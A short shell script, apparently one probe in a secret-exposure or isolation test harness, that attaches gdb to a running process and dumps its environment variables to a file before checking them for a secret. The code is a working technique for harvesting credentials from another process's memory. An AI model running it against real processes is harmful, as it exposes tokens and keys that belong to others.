#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# gdb -p PID: attach and print the C library's environment.
. "$(dirname "$0")/loot.sh"
gdb -p "$pid" -batch -nx -iex 'set debuginfod enabled off' -iex 'set auto-load off' \
    -ex 'x/40s **(char ***)&environ' > "$notes/gdb.out" 2>&1
secret < "$notes/gdb.out" || { grep -i -m 1 -E 'ptrace|not permitted|could not' "$notes/gdb.out" >&2; exit 1; }
